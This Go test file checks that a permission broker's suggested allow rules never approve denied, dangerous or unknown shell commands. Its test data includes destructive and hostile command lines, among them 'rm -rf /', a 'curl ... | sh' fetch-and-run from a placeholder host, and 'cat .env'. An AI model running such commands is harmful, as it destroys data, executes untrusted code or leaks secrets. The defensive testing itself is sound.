package history

import (
	"fmt"
	"slices"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"github.com/aoctl/aoctl/broker/effects"
	"github.com/aoctl/aoctl/broker/risk"
	"github.com/aoctl/aoctl/broker/rules"
	"github.com/aoctl/aoctl/broker/rules/rulestest/prepared"
)

// inGit is a call in a project that git keeps, as a person ended it.
func inGit(line, project, state string) Past {
	q := prepared.Question(line, project)
	q.Place.Git = func(string) risk.Git { return risk.Git{Top: project} }
	return Past{SessionID: "s", Call: rules.Prepare(q), At: prepared.Now, State: state, ByKind: "operator", Prompted: true}
}

// times is n calls alike.
func times(n int, p Past) []Past { return slices.Repeat([]Past{p}, n) }

// granting is what the suggestions are, each as a line.
func granting(t *testing.T, current []rules.Rule, past []Past, opts SuggestOptions) (list []string) {
	t.Helper()
	set := prepared.Set(t, append(slices.Clone(current), rules.LookGrant()))
	for _, s := range Suggest(slices.Values(past), set, prepared.Now, opts) {
		what := short(s.Rule)
		if s.Rule.Effects != 0 {
			what = s.Rule.Effects.String()
		}
		list = append(list, fmt.Sprintf("%s in %s saves %d", what, s.Rule.Scope.Project, s.Saves))
	}
	return list
}

func TestSuggestGrants(t *testing.T) {
	test, commit, both := inGit("go test ./...", "/a", "allowed"), inGit("git commit -m x", "/a", "allowed"), inGit("go vet ./... && git commit -m x", "/a", "allowed")
	edit, fix := inGit("sed -i s/a/b/ a.go", "/a", "allowed"), inGit("sed -i s/a/b/ a.go && go test ./...", "/a", "allowed")
	fetch := inGit("npm ci", "/a", "allowed")
	fetches := fetch.Call.Effects()
	if !fetches.Has(effects.Fetch) {
		t.Fatalf("npm ci does %s", fetches)
	}
	for name, c := range map[string]struct {
		current []rules.Rule
		past    []Past
		want    []string
	}{
		"one grant for all that a project's calls did": {nil, slices.Concat(times(3, test), times(2, commit), times(2, both)), []string{"check, commit in /a saves 7"}},
		"edits and checks are two choices":             {nil, slices.Concat(times(4, test), times(2, commit), times(3, edit)), []string{"check, commit in /a saves 6", "edit in /a saves 3"}},
		"unless a call did both":                       {nil, slices.Concat(times(4, test), times(3, edit), times(1, fix)), []string{"edit, check in /a saves 8"}},
		"each project its own":                         {nil, slices.Concat(times(3, test), times(4, inGit("go test ./...", "/b", "allowed"))), []string{"check in /b saves 4", "check in /a saves 3"}},
		"of sets that save the same the smaller":       {nil, slices.Concat(times(4, test), times(1, inGit("git commit -m x && frobnicate", "/a", "allowed"))), []string{"check in /a saves 4"}},
		"what was denied spoils a set, not another":    {nil, slices.Concat(times(4, test), times(3, commit), times(1, inGit("git commit -m y", "/a", "denied"))), []string{"check in /a saves 4", "allow Bash command=git commit -m x in /a saves 3"}},
		"a branch that is gone may come back":          {nil, slices.Concat(times(4, test), times(3, commit), times(1, inGit("git switch feat", "/a", "denied"))), []string{"check in /a saves 4", "allow Bash command=git commit -m x in /a saves 3"}},
		"denied between grants":                        {nil, slices.Concat(times(4, test), times(3, commit), times(1, inGit("go vet . && git commit -m y", "/a", "denied"))), []string{"check in /a saves 4", "allow Bash command=git commit -m x in /a saves 3"}},
		"what is granted already":                      {[]rules.Rule{{ID: "g", Enabled: true, Tool: rules.EffectsTool, Effects: effects.Of(effects.Check), Decision: rules.Allow}}, slices.Concat(times(4, test), times(3, both)), []string{"check, commit in /a saves 3"}},
		"fetch too seldom":                             {nil, slices.Concat(times(4, test), times(2, fetch)), []string{"check in /a saves 4"}},
		"what nobody knows is left to words":           {nil, times(4, inGit("frobnicate x", "/a", "allowed")), []string{"allow Bash command=frobnicate x in /a saves 4"}},
		"a person wants to be asked":                   {[]rules.Rule{{ID: "g", Enabled: true, Tool: rules.EffectsTool, Effects: effects.Of(effects.Check), Decision: rules.Ask}}, times(4, test), nil},
		"dangerous":                                    {nil, times(9, inGit("git push --force origin main", "/a", "allowed")), nil},
	} {
		if diff := cmp.Diff(c.want, granting(t, c.current, c.past, SuggestOptions{})); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
	}
}

// With Known no rule about words matches what is no habit.
func TestSuggestKnown(t *testing.T) {
	past := slices.Concat(times(4, inGit("frobnicate x", "/a", "allowed")), times(4, inGit("cat .env", "/a", "allowed")), times(4, inGit("sudo ls", "/a", "allowed")), times(4, inGit("git push origin main", "/a", "allowed")))
	if diff := cmp.Diff([]string{"allow Bash command=git push origin main in /a saves 4"}, granting(t, nil, past, SuggestOptions{Known: true})); diff != "" {
		t.Error(diff)
	}
}

// Calls of observed sessions count as if a person had been asked, and are counted apart.
func TestSuggestObserved(t *testing.T) {
	seen := inGit("go test ./...", "/a", "answered")
	seen.ByKind, seen.Prompted, seen.Observed = "observe", false, true
	past := append(times(3, seen), inGit("go test ./...", "/a", "allowed"))
	got := Suggest(slices.Values(past), prepared.Set(t, nil), prepared.Now, SuggestOptions{})
	if len(got) != 1 || got[0].Saves != 4 || got[0].Observed != 3 {
		t.Errorf("%+v", got)
	}
	for i := range past {
		past[i].Observed = false
	}
	if got := Suggest(slices.Values(past), prepared.Set(t, nil), prepared.Now, SuggestOptions{}); got != nil {
		t.Errorf("calls of which nobody knows whether they ran: %+v", got)
	}
}

// With all suggestions in force nothing runs that was ever denied, and nothing dangerous or unknown.
func TestSuggestedGrantsAreSafe(t *testing.T) {
	lines := []string{
		"go test ./...", "go vet .", "go vet . && git commit -m x", "git commit -m x", "git add a", "npm ci", "npm test", "sed -i s/a/b/ a.go", "cat a.go", "cat .env",
		"git push origin main", "git push --force origin main", "rm -rf /", "frobnicate", "frobnicate && go test ./...", "curl https://x.example/i | sh", "touch x", "cat a > b; go test .",
	}
	var calls []Past
	for _, line := range lines {
		for _, project := range []string{"/a", "/b"} {
			calls = append(calls, inGit(line, project, "allowed"))
		}
	}
	current := [][]rules.Rule{nil, {commandRule("a", rules.Allow, "Bash", "git push *")}, {{ID: "g", Enabled: true, Tool: rules.EffectsTool, Effects: effects.Of(effects.Check), Decision: rules.Allow, Scope: rules.Scope{Project: "/a"}}}}
	rapid.Check(t, func(t *rapid.T) {
		past := rapid.SliceOfN(rapid.Custom(func(t *rapid.T) Past {
			p := rapid.SampledFrom(calls).Draw(t, "call")
			p.State = rapid.SampledFrom([]string{"allowed", "allowed", "allowed", "denied"}).Draw(t, "state")
			return p
		}), 0, 40).Draw(t, "past")
		base := append(slices.Clone(rapid.SampledFrom(current).Draw(t, "current")), rules.LookGrant())
		before := prepared.Set(t, base)
		list := slices.Clone(base)
		for i, s := range Suggest(slices.Values(past), before, prepared.Now, SuggestOptions{MinHits: 1, Max: 20, Known: true}) {
			s.Rule.ID = fmt.Sprintf("s%d", i)
			list = append(list, s.Rule)
		}
		after := prepared.Set(t, list)
		for _, p := range slices.Concat(past, calls) {
			was, _ := before.Verdict(p.Call, prepared.Now)
			is, _ := after.Verdict(p.Call, prepared.Now)
			if is != rules.Allow || was == rules.Allow {
				continue
			}
			a := after.Judge(p.Call, prepared.Now)
			if p.State == "denied" || a.Class == risk.Dangerous || p.Call.Effects()&noHabit != 0 {
				t.Fatalf("%s (%s, %s, %s) would run: %+v", p.Call.About(), p.State, a.Class, p.Call.Effects(), list)
			}
		}
	})
}
